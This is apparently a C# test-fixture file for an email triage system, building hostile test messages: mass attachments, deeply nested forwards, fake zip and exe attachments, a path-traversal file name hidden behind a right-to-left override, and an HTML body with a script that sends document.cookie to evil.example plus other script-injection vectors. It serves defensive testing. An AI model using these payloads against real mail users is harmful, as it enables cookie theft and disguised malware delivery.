using KpuTriage.Tests.Email;
using KpuTriage.Tests.Infrastructure;
using MimeKit;

namespace KpuTriage.Tests.Security.Hostile;

/// <summary>Mails that carry too much, nest too deep, or dress attachments up as something else.</summary>
internal static class HostileMails
{
    /// <summary>A covering note with <paramref name="count"/> letter attachments, each unique.</summary>
    public static byte[] ManyAttachments(int count) => TestMails.Build("Kiriman berkas massal", body =>
    {
        body.TextBody = "Terlampir surat-surat.";
        for (var i = 1; i <= count; i++)
        {
            body.Attachments.Add($"surat-{i:D3}.txt", Letters.UndanganBytes(9000 + i), new ContentType("text", "plain"));
        }
    }).ToBytes();

    /// <summary>A mail inside a mail, <paramref name="depth"/> levels deep, the letter at the bottom.</summary>
    public static byte[] Nested(int depth)
    {
        var inner = TestMails.Build("Surat asli", body => body.Attachments.Add("surat.txt", Letters.UndanganBytes(9500), new ContentType("text", "plain")));
        for (var level = 1; level < depth; level++)
        {
            var wrapped = inner;
            inner = TestMails.Build($"Fwd {level}", body => body.Attachments.Add(new MessagePart { Message = wrapped }));
        }

        return inner.ToBytes();
    }

    /// <summary>Attachments nothing can read (an archive, a program), and a letter whose name hides its type behind a right-to-left override.</summary>
    public static byte[] DisguisedAttachments() => TestMails.Build("Berkas", body =>
    {
        body.TextBody = "Mohon diproses.";
        body.Attachments.Add("arsip.zip", "PK\u0003\u0004 not really"u8.ToArray(), new ContentType("application", "zip"));
        body.Attachments.Add("setup.exe", "MZ\u0090\0\u0003"u8.ToArray(), new ContentType("application", "octet-stream"));
        body.Attachments.Add("../../surat\u202Etxt.exe", Letters.UndanganBytes(9600), new ContentType("text", "plain"));
    }).ToBytes();

    /// <summary>An HTML-only mail whose markup tries to run and to load from outside.</summary>
    public static byte[] ScriptedHtml() => TestMails.Build("Undangan", body =>
        body.HtmlBody = """
            <html><head><script>fetch('http://evil.example/'+document.cookie)</script></head>
            <body onload="alert(1)"><img src="http://evil.example/pixel.png"><p>Nomor : 14/PL.02.1-Und/32/2025</p>
            <p>Hal : Undangan Rapat</p><iframe src="javascript:alert(2)"></iframe></body></html>
            """).ToBytes();
}
